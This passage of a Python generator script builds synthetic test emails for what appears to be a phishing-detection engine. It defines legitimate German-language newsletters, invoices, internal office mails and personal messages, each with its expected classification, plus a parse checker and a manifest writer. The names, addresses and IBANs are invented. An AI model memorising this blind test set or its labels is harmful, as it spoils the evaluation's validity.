  extra=unsub(CR + "u/" + tok("cr8", 40, HEX)) + ["Precedence: bulk", "X-CSA-Complaints: csa-complaints@eco.de"])

BR = "https://r.sendibt3.com/tr/cl/"
M("brevo-bioladen", "bulk", "webde", ("Nina Braun", "nina.braun@web.de"),
  ("Bioladen Sonnenblume", "news@bioladen-sonnenblume.de"),
  "Spargelzeit! Neu vom Hof Meyer + 3 Rezepte", "2025-04-25 16:30:05",
  "77.32.148.20", "mail148-20.sendibt2.com", "pass/pass/pass",
  alt(page("Bioladen Sonnenblume", "#6a9b2f", "Der erste Bio-Spargel ist da", [
      "Liebe Nina,", "ab Samstag gibt es wei&szlig;en und gr&uuml;nen Spargel vom Bioland-Hof Meyer aus der Region "
      f'&ndash; frisch gestochen. Dazu passen unsere <a href="{BR}{tok("br1", 60, ALNUM + "-_")}">drei '
      "Lieblingsrezepte</a>.", f'Au&szlig;erdem: <a href="{BR}{tok("br2", 60, ALNUM + "-_")}">Verkostung am 3. Mai</a> '
      "mit Weinen vom Weingut Lorenz."], ("Wochenangebote ansehen", BR + tok("br3", 60, ALNUM + "-_")),
      "Bioladen Sonnenblume &middot; Lindenweg 4 &middot; 35037 Marburg<br>"
      f'<a href="{BR}{tok("br4", 60, ALNUM + "-_")}">Abmelden</a>',
      pixel="https://r.sendibt3.com/tr/op/" + tok("br5", 50, ALNUM + "-_")), "----=_brevo_7741"),
  "Genuine organic shop newsletter via Brevo (ex Sendinblue/Newsletter2Go) with sendibt3.com tracking links; "
  "authentication passes.",
  mailfrom="bounces-" + tok("brmf", 20, "0123456789") + "@mailin-bounce.sendibt2.com",
  dkim=[("bioladen-sonnenblume.de", "brevo1"), ("sendibt2.com", "mail")], utc=True,
  extra=unsub("https://r.sendibt3.com/tr/un/" + tok("br6", 50, ALNUM + "-_")) + ["Feedback-ID: 3318842:brevo"])

MC = "https://chor-waedenswil.us21.list-manage.com/track/click?u=" + tok("mcu", 25, HEX) + "&id="
M("mailchimp-chor", "bulk", "bluewin", ("Ruth Zimmermann", "ruth.zimmermann@bluewin.ch"),
  ("Chorgemeinschaft Wädenswil", "info@chor-waedenswil.ch"),
  "Jahreskonzert 2025 – Tickets jetzt erhältlich", "2025-10-02 18:05:44",
  "198.2.177.32", "mail32.atl111.mcdlv.net", "pass/pass/pass",
  alt(page("Chorgemeinschaft W&auml;denswil", "#7a1f5c", "Jahreskonzert: Haydn &ndash; Die Sch&ouml;pfung", [
      "Liebe Freundinnen und Freunde des Chors", "am 22. und 23. November singen wir in der reformierten Kirche "
      "W&auml;denswil. Der Vorverkauf hat begonnen, Mitglieder erhalten 10&nbsp;% Rabatt.",
      f'Helferinnen und Helfer f&uuml;r den Apéro tragen sich bitte <a href="{MC}{tok("mc1", 10, HEX)}&e='
      f'{tok("mce", 10, HEX)}">hier</a> ein.'], ("Tickets bestellen", f"{MC}{tok('mc2', 10, HEX)}&e={tok('mce', 10, HEX)}"),
      f'Chorgemeinschaft W&auml;denswil &middot; Postfach &middot; 8820 W&auml;denswil<br><a href="https://chor-waedenswil'
      f'.us21.list-manage.com/unsubscribe?u={tok("mcu", 25, HEX)}&id={tok("mc3", 10, HEX)}">Abmelden</a>',
      pixel=f"https://chor-waedenswil.us21.list-manage.com/track/open.php?u={tok('mcu', 25, HEX)}&id="
            f"{tok('mc4', 10, HEX)}&e={tok('mce', 10, HEX)}"), "_----------=_MCPart_8841273"),
  "Genuine Swiss choir newsletter via Mailchimp with list-manage.com click tracking, authentication passes.",
  mailfrom="bounce-mc.us21_118472233.5581903-ruth.zimmermann=bluewin.ch@mail32.atl111.mcdlv.net",
  dkim=[("chor-waedenswil.ch", "k2"), ("mcsv.net", "k3")], utc=True,
  extra=unsub(f"https://chor-waedenswil.us21.list-manage.com/unsubscribe/post?u={tok('mcu', 25, HEX)}") +
  ["X-MC-User: " + tok("mcu", 25, HEX), "Feedback-ID: 118472233:118472233.5581903:us21:mc"])

RM = "https://t7f6e3b2.emailsys1a.net/c/36/"
M("rapidmail-weingut", "bulk", "gmxat", ("Maria Gruber", "maria.gruber@gmx.at"),
  ("Weingut Hofbauer", "newsletter@weingut-hofbauer.at"),
  "Ausg'steckt is! Heuriger vom 14. bis 29. Juni", "2025-06-06 11:45:00",
  "195.140.186.42", "mail186-42.emailsys1a.net", "pass/pass/pass",
  alt(page("Weingut Hofbauer", "#8b1e3f", "Unser Heuriger hat wieder ge&ouml;ffnet", [
      "Liebe Frau Gruber,", "von 14. bis 29. Juni ist bei uns in Gumpoldskirchen wieder ausg'steckt &ndash; "
      "t&auml;glich ab 15 Uhr, mit Zierfandler, Rotgipfler und unserer neuen Brettljause.",
      f'Tisch f&uuml;r gr&ouml;&szlig;ere Gruppen? <a href="{RM}{tok("rm1", 30, "0123456789")}/{tok("rm2", 12)}">'
      "Hier reservieren</a>."], ("Zum Online-Shop", f"{RM}{tok('rm3', 30, '0123456789')}/{tok('rm4', 12)}"),
      f'Weingut Hofbauer &middot; Wiener Stra&szlig;e 18 &middot; 2352 Gumpoldskirchen<br><a href="{RM}'
      f'{tok("rm5", 30, "0123456789")}/{tok("rm6", 12)}">Newsletter abbestellen</a>'), "----=_rm_hofbauer_0606"),
  "Genuine Austrian winery newsletter via rapidmail (emailsys1a.net tracking links), authentication passes.",
  mailfrom="bounce-" + tok("rmmf", 18, "0123456789") + "@emailsys1a.net",
  dkim=[("weingut-hofbauer.at", "rm1"), ("emailsys1a.net", "rm")],
  extra=unsub(f"{RM}{tok('rm5', 30, '0123456789')}/{tok('rm6', 12)}") + ["Precedence: bulk"])

M("invoice-beschlag", "clean", "m365", ("Petra Seidel", "p.seidel@tischlerei-kraemer.de"),
  ("Beschlagtechnik Mayer GmbH", "rechnung@beschlag-mayer.de"),
  "Rechnung 2025-30417 zu Ihrem Auftrag 88214", "2025-05-14 09:12:40",
  "40.107.20.118", "EUR05-DB8-obe.outbound.protection.outlook.com", "pass/pass/pass",
  mixed("_004_AM9PR02MB7331mayer_",
        person("Sehr geehrte Frau Seidel,\n\nanbei erhalten Sie unsere Rechnung 2025-30417 zu Ihrem Auftrag 88214 "
               "(Lieferung vom 12.05.2025).\nZahlbar innerhalb von 14 Tagen mit 2 % Skonto oder 30 Tage netto auf "
               "unser bekanntes Konto.\n\nMit freundlichen Grüßen\n\ni. A. Claudia Fink\nDebitorenbuchhaltung\n"
               "Beschlagtechnik Mayer GmbH | Gutenbergstraße 9 | 72555 Metzingen\nTel. 07123 9611-42\n",
               "outlook", "_000_AM9PR02MB7331mayer_"),
        att("Rechnung_2025-30417.pdf", pdf_doc([
            "Beschlagtechnik Mayer GmbH - Gutenbergstrasse 9 - 72555 Metzingen", "", "RECHNUNG 2025-30417", "",
            "Tischlerei Kraemer GmbH, Auftrag 88214, Lieferung 12.05.2025", "",
            "Blum Tandembox antaro 40 Stk    1.236,00 EUR", "Haefele Topfband 110 Grad 200 Stk   418,00 EUR",
            "Netto 1.654,00 EUR   USt 19% 314,26 EUR   Gesamt 1.968,26 EUR", "",
            "Bankverbindung: Volksbank Ermstal-Alb eG", "IBAN DE62 6409 1200 0012 3456 78  BIC GENODES1MTZ",
            "USt-IdNr. DE812345678"], title="Rechnung 2025-30417", producer="SAP NetWeaver"))),
  "Genuine supplier invoice to a joinery with a PDF showing the supplier's usual IBAN, sent from the supplier's "
  "Microsoft 365 tenant with passing authentication.",
  dkim=[("beschlag-mayer.de", "selector1")], policy="quarantine", origin="m365")

M("invoice-dentallabor", "clean", "m365", ("Sabine Ott", "s.ott@praxis-dr-brenner.de"),
  ("Zahntechnik Lorenz GmbH", "abrechnung@zahntechnik-lorenz.de"),
  "Rechnung Oktober 2025 – Patientenarbeiten", "2025-11-03 15:20:11",
  "212.227.126.133", "mout.kundenserver.de", "pass/pass/pass",
  mixed("------------F3A7C1D9E2B84C06A1B7E5F2",
        text("Guten Tag Frau Ott,\n\nim Anhang unsere Sammelrechnung für Oktober 2025 (12 Patientenarbeiten, "
             "Gesamtbetrag 4.386,20 €).\nDie Einzelaufstellung nach BEL II liegt bei. Bankverbindung wie gewohnt "
             "bei der Sparkasse.\n\nViele Grüße aus dem Labor\nMichael Lorenz\nZahntechnikermeister\n"
             "Zahntechnik Lorenz GmbH · Am Mühlbach 3 · 93047 Regensburg\n"),
        att("Sammelrechnung_2025-10.pdf", pdf_doc([
            "Zahntechnik Lorenz GmbH - Am Muehlbach 3 - 93047 Regensburg", "", "Sammelrechnung Oktober 2025", "",
            "Zahnarztpraxis Dr. Katrin Brenner", "12 Arbeiten lt. Einzelaufstellung (BEL II)", "",
            "Gesamtbetrag 4.386,20 EUR (umsatzsteuerfrei gem. Par. 4 Nr. 14 UStG)", "",
            "Sparkasse Regensburg  IBAN DE12 7505 0000 0026 1884 73  BIC BYLADEM1RBG"], title="Sammelrechnung")),
        att("Einzelaufstellung_2025-10.pdf", pdf_doc(["Einzelaufstellung Oktober 2025",
                                                      "Pat.-Nr. 1044 - Krone VMK 15    412,80 EUR",
                                                      "Pat.-Nr. 1071 - Bruecke 34-36   1.118,40 EUR"],
                                                     title="Einzelaufstellung"))),
  "Genuine monthly invoice from a dental lab to a practice via IONOS (authentication passes), IBAN unchanged.",
  dkim=[("zahntechnik-lorenz.de", "s1-ionos")], origin="exim", cip="84.150.31.209",
  extra=["User-Agent: Mozilla Thunderbird"])


def internal(tenant: str, n: int) -> dict:
    """Received chain and Authentication-Results of mail that never left a Microsoft 365 tenant."""
    a, b = f"DU2PR0{n}MB{8120 + n}", f"DU2PR0{n}MB{8190 + n}"
    return dict(rcv=[f"Received: from {a}.eurprd0{n}.prod.outlook.com (2603:10a6:10:2e1::{n}4) by\n {b}.eurprd0{n}.prod.outlook.com"
                     " with Microsoft SMTP Server\n (version=TLS1_2, cipher=TLS_ECDHE_RSA_WITH_AES_256_GCM_SHA384) id"
                     " 15.20.8182.19; {D}",
                     f"Received: from {a}.eurprd0{n}.prod.outlook.com\n ([fe80::4c1a:9e2b:7d13:a0f{n}]) by "
                     f"{a}.eurprd0{n}.prod.outlook.com\n ([fe80::4c1a:9e2b:7d13:a0f{n}%4]) with mapi id 15.20.8182.017; {{D}}"],
                ar=f"Authentication-Results: dkim=none (message not signed)\n header.d=none;dmarc=none action=none"
                   f" header.from={tenant};",
                extra=["X-MS-Exchange-Organization-AuthAs: Internal",
                       "X-MS-Exchange-Organization-AuthSource: " + f"{a}.eurprd0{n}.prod.outlook.com",
                       "Content-Language: de-DE"])


M("praxis-urlaub", "clean", "m365", ("Praxisteam", "team@praxis-dr-brenner.de"),
  ("Sabine Ott", "s.ott@praxis-dr-brenner.de"),
  "Urlaubsplanung 2026 – bitte bis 15.11. eintragen", "2025-10-28 12:40:18", "", "", "none/none/none",
  person("Hallo zusammen,\n\ndie Urlaubsliste für 2026 hängt ab heute im Sozialraum und liegt auch im Teams-Ordner "
         "„Praxisorganisation“. Bitte tragt eure Wünsche bis zum 15.11. ein.\n\nWichtig: Die Praxis ist vom 27.07. "
         "bis 07.08.2026 geschlossen (Betriebsurlaub), in den Osterferien brauchen wir mindestens drei ZFA pro Tag.\n\n"
         "Danke euch!\nSabine\n\nSabine Ott\nPraxismanagement\nZahnarztpraxis Dr. Katrin Brenner\n", "outlook",
         "_000_DU2PR04MB8124praxis_"),
  "Internal Microsoft 365 mail from a dental practice manager to the team about holiday planning.",
  mailfrom="s.ott@praxis-dr-brenner.de", **internal("praxis-dr-brenner.de", 4))

M("baustelle-fotos", "clean", "m365", ("Thomas Krämer", "t.kraemer@tischlerei-kraemer.de"),
  ("Kai Brandstätter", "k.brandstaetter@tischlerei-kraemer.de"),
  "Baustelle Lindenstraße – Aufmaß und Fotos", "2025-03-10 16:22:47", "", "", "none/none/none",
  mixed("_004_DU2PR03MB8123kai_",
        person("Hallo Thomas,\n\nwar heute bei Vogel in der Lindenstraße zum Aufmaß. Die Fensteröffnungen im OG sind "
               "alle ca. 2 cm schmaler als im Plan (siehe Fotos), die Haustür passt. Ich hab dir die Maße in die "
               "Auftragsmappe gelegt.\n\nMorgen bin ich ab 7 auf der Baustelle Huber.\n\nGruß Kai\n\n"
               "Von Outlook für iOS gesendet\n", "outlook", "_000_DU2PR03MB8123kai_"),
        attachment("image/jpeg", "IMG_4471.jpg", files.photo_jpeg(4471)),
        attachment("image/jpeg", "IMG_4472.jpg", files.photo_jpeg(4472))),
  "Internal mail in a joinery's Microsoft 365 tenant: the foreman sends measurements and two site photos.",
  mailfrom="k.brandstaetter@tischlerei-kraemer.de", **internal("tischlerei-kraemer.de", 3))

M("it-wartung", "clean", "m365", ("Praxisteam", "team@praxis-dr-brenner.de"),
  ("Praxis-IT Nord Service", "service@praxis-it-nord.de"),
  "Wartungsfenster Samstag 08.11. und Hinweis zu Kennwörtern", "2025-11-04 11:05:33",
  "40.107.22.102", "EUR05-AM6-obe.outbound.protection.outlook.com", "pass/pass/pass",
  person("Liebes Praxisteam,\n\nam Samstag, 08.11.2025, spielen wir zwischen 8:00 und 12:00 Uhr Updates auf den "
         "Server (Praxisverwaltungssoftware und Windows) ein. In dieser Zeit ist kein Zugriff auf die PVS möglich. "
         "Bitte lassen Sie die Arbeitsplätze am Freitag eingeschaltet und melden Sie sich nur ab.\n\n"
         "Noch ein Hinweis, weil in letzter Zeit viele gefälschte Mails unterwegs sind: Ihr Microsoft-365-Kennwort "
         "läuft nicht ab, und wir fragen niemals per E-Mail nach Kennwörtern oder Codes. Wenn Sie unsicher sind, rufen "
         "Sie uns einfach an: 0441 2177 30.\n\nViele Grüße\nJan Petersen\nPraxis-IT Nord GmbH\nDonnerschweer Str. 90, "
         "26123 Oldenburg\n", "outlook", "_000_AS8PR07MB7712itnord_"),
  "Genuine IT-service provider notice to a practice about a maintenance window and password hygiene, from the "
  "provider's Microsoft 365 tenant with passing authentication.",
  dkim=[("praxis-it-nord.de", "selector1")], policy="quarantine", origin="m365")

M("familie-fotos", "clean", "gmx", ("Erika Haas", "erika.haas@gmx.de"),
  ("Tobias Haas", "tobias.haas@web.de"),
  "Fotos vom Wochenende am Ammersee", "2024-08-26 20:14:09",
  "217.72.192.73", "mout.web.de", "pass/pass/pass",
  mixed("--=_webde_th_0826",
        text("Hallo Mama,\n\nhier wie versprochen die Fotos vom Sonntag. Das mit der Sonne über dem Steg ist mein "
             "Lieblingsbild :)\nLeonie fragt schon, wann ihr wieder zu Besuch kommt. Wie wäre es mit dem "
             "Wochenende 14./15. September?\n\nLiebe Grüße, auch an Papa\nTobias\n"),
        attachment("image/jpeg", "Ammersee_1.jpg", files.photo_jpeg(826)),
        attachment("image/jpeg", "Ammersee_2.jpg", files.photo_jpeg(827))),
  "Personal mail from a son to his mother with two holiday photos, WEB.DE to GMX, authentication passes.",
  dkim=[("web.de", "s29768273")], policy="quarantine", origin="gmxout", cip="93.104.177.210")

M("verein-kegeln", "clean", "tonline", ("Rainer Wolf", "rainer.wolf@t-online.de"),
  ("Gerd Kühn", "gerd.kuehn@t-online.de"),
  "Kegelabend Freitag + Kassenbericht", "2025-01-15 19:37:52",
  "194.25.134.80", "mailout01.t-online.de", "pass/none/none",
  person("Hallo Rainer,\n\nnur zur Erinnerung: Freitag 19 Uhr Kegeln im Gasthaus Krone, Bahn 2 ist reserviert.\n\n"
         "Den Kassenbericht 2024 bringe ich ausgedruckt mit. Kurz vorab: Kassenstand 31.12. 1.284,60 Euro, die "
         "Beiträge für 2025 (40 Euro) bitte wie immer bis Ende Februar aufs Vereinskonto bei der Volksbank.\n\n"
         "Kannst du Heinz Bescheid sagen? Der hat ja keine E-Mail.\n\nGruß\nGerd\n", "plain8"),
  "Personal club mail between two T-Online users (plain text from Thunderbird), mentions a bank account without "
  "any request to change it.",
  extra=["User-Agent: Mozilla Thunderbird", "X-TOI-MSGID: " + tok("toi", 8, HEX) + "-" + tok("toi2", 4, HEX)])

M("bewerbung-echt", "clean", "m365", ("Personalabteilung", "bewerbung@kfz-wolf.de"),
  ("Jonas Berger", "jonas.berger2006@gmail.com"),
  "Bewerbung um einen Ausbildungsplatz als Kfz-Mechatroniker 2025", "2025-02-03 17:28:14",
  "209.85.128.53", "mail-wm1-f53.google.com", "pass/pass/pass",
  mixed("000000000000f1e2d3062d5a7b19",
        person("Sehr geehrte Damen und Herren,\n\nhiermit bewerbe ich mich um einen Ausbildungsplatz als "
               "Kfz-Mechatroniker ab August 2025. Mein Praktikum bei Ihnen im letzten Herbst hat mir sehr gefallen.\n\n"
               "Im Anhang finden Sie mein Anschreiben, meinen Lebenslauf und mein letztes Zeugnis als eine PDF-Datei.\n\n"
               "Mit freundlichen Grüßen\nJonas Berger\nTel. 0151 22874419\n", "gmail", "000000000000e0d1c2062d5a7b17"),
        att("Bewerbung_Jonas_Berger.pdf", pdf_doc([
            "Jonas Berger - Bewerbung Ausbildung Kfz-Mechatroniker", "", "Lebenslauf",
            "geb. 14.05.2006 in Bamberg", "2016-2025 Realschule Bamberg (Abschluss Juli 2025)",
            "10/2024 Praktikum Kfz Wolf, 2 Wochen", "Hobbys: Mopedschrauben, Fussball (SV Gaustadt)"],
            title="Bewerbung Jonas Berger", producer="Microsoft Word for Microsoft 365"))),
  "Genuine job application to a car workshop from a Gmail account with an ordinary PDF (no active content).",
  dkim=[("gmail.com", "20230601")], policy="none", origin="gmail")


# --------------------------------------------------------------------------- main

def check(raw: bytes, name: str) -> None:
    """Every message must parse cleanly: no defects in any part or header, every leaf decodable."""
    msg = BytesParser(policy=policy.default).parsebytes(raw)
    for part in msg.walk():
        assert not part.defects, (name, part.defects)
        for key, value in part.items():
            assert not getattr(value, "defects", None), (name, key, value.defects)
        if not part.is_multipart():
            part.get_content()
    for line in raw.split(b"\n"):
        assert len(line) < 990, (name, line[:60])


# Filed after the first scan where the engine's classification puts them (the names keep the writer's kind).
REFILED = {
    "b28-bulk-telekom-rechnung": "clean", "b28-bulk-paypal-zahlung": "clean", "b28-bulk-a1-rechnung-echt": "clean",
    "b28-bulk-docusign-echt": "clean",
}


def main() -> None:
    slugs = [m["slug"] for m in MSGS]
    assert len(slugs) == len(set(slugs)), "duplicate slug"
    for old in OUT.glob(f"*/b{N}-*.eml"):
        old.unlink()
    manifest, counts = [], {}
    for m in MSGS:
        raw = message(headers(m), m["body"])
        name = f"b{N}-{m['kind']}-{m['slug']}"
        rel = f"samples/mail/{REFILED.get(name, m['cat'])}/{name}.eml"
        check(raw, rel)
        (ROOT / rel).write_bytes(raw)
        manifest.append(f"{rel} | {m['cat']} | {m['desc']}")
        counts[m["cat"]] = counts.get(m["cat"], 0) + 1
    MANIFEST.write_text("\n".join(manifest) + "\n", encoding="utf-8")
    attacks = sum(1 for m in MSGS if m["kind"] == "phish")
    legit = len(MSGS) - attacks
    print(f"blind{N}: {len(MSGS)} messages, {attacks} attacks, {legit} legitimate;",
          ", ".join(f"{k}={v}" for k, v in sorted(counts.items())))
    assert attacks == 50 and legit == 25, (attacks, legit)


if __name__ == "__main__":
    main()
